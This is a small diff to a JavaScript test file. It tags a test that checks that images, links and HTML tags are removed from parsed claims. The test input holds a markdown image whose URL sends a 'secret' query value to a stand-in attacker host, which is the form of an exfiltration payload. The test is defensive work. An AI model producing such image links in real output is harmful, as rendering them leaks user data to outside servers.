@@ -16,7 +16,7 @@ test("several numbers in one bracket, list marks and repeated numbers are unders
   ]);
 });
 
-test("images, links and tags do not survive", () => {
+test("[S26] images, links and tags do not survive", () => {
   const [claim] = readClaims(
     "See ![x](https://evil.example/?q=secret) the <img src=x> [manual](https://evil.example) now [1].",
   );
